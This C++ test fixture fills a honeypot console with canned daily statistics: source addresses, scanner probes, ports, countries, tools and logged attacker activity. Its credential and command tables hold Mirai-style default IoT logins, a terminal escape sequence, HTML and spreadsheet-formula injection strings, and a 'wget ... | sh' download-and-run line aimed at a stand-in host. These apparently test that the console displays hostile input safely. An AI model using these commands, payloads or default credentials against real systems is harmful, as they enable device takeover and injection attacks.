#include "tests/console/pictures/canned_day.hpp"
#include "tests/console/pictures/canned_dice.hpp"

#include <algorithm>
#include <array>

namespace apiary::console {

using namespace Qt::Literals::StringLiterals;

namespace {

TopEntry entry(const char* key, quint64 count, quint64 previous) {
    return {QByteArray(key), count, previous, {}, {}};
}

TopEntry source(const char* key, quint64 count, quint64 previous, const char* country, const char* network) {
    return {QByteArray(key), count, previous, {}, {}, QString::fromLatin1(country), QString::fromLatin1(network)};
}

TopEntry login(const char* username, const char* secret, quint64 count, quint64 previous) {
    return {QByteArray(username) + ':' + secret, count, previous, QString::fromLatin1(username),
            QString::fromLatin1(secret)};
}

/// The newest are a sweep of port 23, one /24 after the other.
ProbeRow probeAt(quint64 number, qint64 endUs) {
    static constexpr std::array<quint16, 6> kPorts{23, 80, 22, 445, 3389, 8080};
    Dice dice(static_cast<unsigned>(number));
    const bool sweep = number < 256;
    ProbeRow row;
    row.id = QByteArray(8, '\0') + QByteArray::number(number).rightJustified(8, '0');
    row.startedUs = endUs - static_cast<qint64>(number * (sweep ? 400'000 : 36'000'000) + 11'000'000);
    row.endedUs = row.startedUs + 1'000'000 + dice.below(8'900'000);
    row.sensor = sensorsOfDay()[sweep ? 1 : dice.below(static_cast<quint32>(sensorsOfDay().size()))];
    row.source = sweep ? u"198.51.100.23"_s : u"203.0.113.%1"_s.arg(dice.below(250) + 1);
    row.country = sweep ? u"NL"_s : QString();
    row.target = u"192.0.2.0"_s;
    row.targetPort = sweep ? 23 : dice.oneOf(kPorts);
    row.kind = sweep || dice.below(3) > 0 ? u"syn"_s : u"closed"_s;
    row.packets = sweep ? 256 : 1 + dice.below(64);
    row.reason =
        u"addresses=%1 ttl=%2 flags=S window=1024 mss=1460 options=5f3a"_s.arg(row.packets).arg(236 + dice.below(12));
    return row;
}

}  // namespace

QList<TopEntry> topOfDay(TopField field, int limit) {
    QList<TopEntry> entries;
    switch (field) {
        case TopField::Source:
            entries = {source("198.51.100.23", 24'188, 7'752, "NL", "Example Hosting"),
                       source("203.0.113.77", 17'302, 16'637, "CN", "Example Telecom"),
                       source("192.0.2.144", 11'870, 13'488, "US", "Example Cloud"),
                       source("198.51.100.9", 9'415, 7'187, "RU", "Example Servers"),
                       source("203.0.113.201", 6'022, 0, "VN", "Example Mobile"),
                       source("2001:db8:77::1f", 4'871, 4'610, "DE", "Example Online"),
                       source("192.0.2.63", 3'990, 4'205, "DE", ""),
                       entry("198.51.100.122", 3'214, 2'988)};
            break;
        case TopField::Credential:
            entries = {login("root", "xc3511", 8'120, 6'881),   login("admin", "admin", 7'344, 7'271),
                       login("root", "", 5'902, 6'147),         login("root", "vizxv", 5'511, 4'517),
                       login("user", "user", 3'108, 3'260),     login("support", "\\x1b]0;owned\\x07", 2'040, 0),
                       login("ubnt", "ubnt", 1'877, 1'901),     login("<b>root</b>", "=cmd|'/c calc'!A1", 906, 12),
                       login("postmaster", "123456", 744, 690), login("anonymous", "IEUser@", 512, 498)};
            break;
        case TopField::Protocol:
            entries = {entry("telnet", 77'280, 70'560), entry("http", 43'240, 39'480), entry("smtp", 21'160, 19'320),
                       entry("ftp", 14'030, 12'810),    entry("pop3", 9'430, 8'610),   entry("catchall", 7'820, 7'140),
                       entry("finger", 2'760, 2'520)};
            break;
        case TopField::Port:
            entries = {entry("23", 79'310, 70'122), entry("80", 44'017, 45'200), entry("25", 27'113, 20'019),
                       entry("21", 14'220, 14'101), entry("110", 9'604, 9'912),  entry("6379", 5'021, 3'116),
                       entry("79", 2'790, 2'655),   entry("2323", 2'011, 1'420)};
            break;
        case TopField::Sensor:
            for (const QString& name : sensorsOfDay()) {
                const quint64 count = 31'000 - 2'740 * static_cast<quint64>(entries.size());
                entries.append({name.toUtf8(), count, count * 93 / 100, {}, {}});
            }
            break;
        case TopField::Country:
            entries = {entry("CN", 51'904, 48'060), entry("US", 39'077, 39'874), entry("NL", 22'012, 13'422),
                       entry("RU", 17'743, 17'227), entry("BR", 12'508, 12'001), entry("IN", 9'990, 9'210),
                       entry("VN", 8'114, 6'870),   entry("DE", 6'402, 6'630),   entry("ID", 5'114, 4'870),
                       entry("GB", 4'402, 4'230),   entry("IR", 3'877, 3'950),   entry("KR", 3'204, 2'877),
                       entry("FR", 2'940, 3'011),   entry("TR", 2'611, 2'330),   entry("UA", 2'208, 2'214),
                       entry("AR", 1'970, 1'844),   entry("SG", 1'702, 1'690),   entry("MX", 1'490, 1'377),
                       entry("TH", 1'204, 1'118),   entry("EG", 960, 902),       entry("PL", 814, 799),
                       entry("CA", 702, 733),       entry("JP", 655, 640),       entry("CO", 514, 420),
                       entry("ZA", 411, 377),       entry("NG", 305, 288),       entry("ES", 270, 266),
                       entry("RO", 201, 190),       entry("PK", 160, 144),       entry("AU", 120, 133),
                       entry("KE", 64, 51),         entry("CL", 33, 40),         entry("SA", 12, 9)};
            break;
        case TopField::Command:
            entries = {entry("enable", 31'220, 29'004),
                       entry("system", 30'871, 28'777),
                       entry("shell", 30'654, 28'590),
                       entry("/bin/busybox ECCHI", 21'007, 16'340),
                       entry("cat /proc/mounts; /bin/busybox ECCHI", 20'113, 15'921),
                       entry("wget http://203.0.113.9/<script>alert(1)</script>.sh -O- | sh", 4'330, 1'200),
                       entry("uname -a", 3'902, 3'877)};
            break;
        case TopField::Artifact:
            for (const char letter : {'a', 'b', 'c', 'd', 'e'}) {
                const auto count = static_cast<quint64>(1'300 - 210 * (letter - 'a'));
                entries.append({QByteArray(31, letter) + '\x1b', count, count / 2, {}, {}});
            }
            break;
        case TopField::Tool:
            entries = {entry("masscan", 2'311, 1'204), entry("zmap", 1'870, 1'902), entry("mirai", 964, 610),
                       entry("nmap", 212, 230), entry("unicornscan", 3, 0)};
            break;
    }
    return entries.first(std::min<qsizetype>(limit, entries.size()));
}

ProbePage probesOfDay(const Scope& scope, const QString& tool, const SessionKey& before, int limit) {
    ProbePage page;
    for (const TopEntry& one : topOfDay(TopField::Tool, 20)) {
        page.probes = one.key == tool.toUtf8() ? one.count : page.probes;
    }
    for (quint64 number = 0; number < page.probes; ++number) {
        const ProbeRow row = probeAt(number, scope.toUs);
        if (before.startedUs != 0 && row.startedUs >= before.startedUs) {
            continue;
        }
        if (page.rows.size() == limit) {
            page.more = true;
            break;
        }
        page.rows.append(row);
    }
    return page;
}

}  // namespace apiary::console
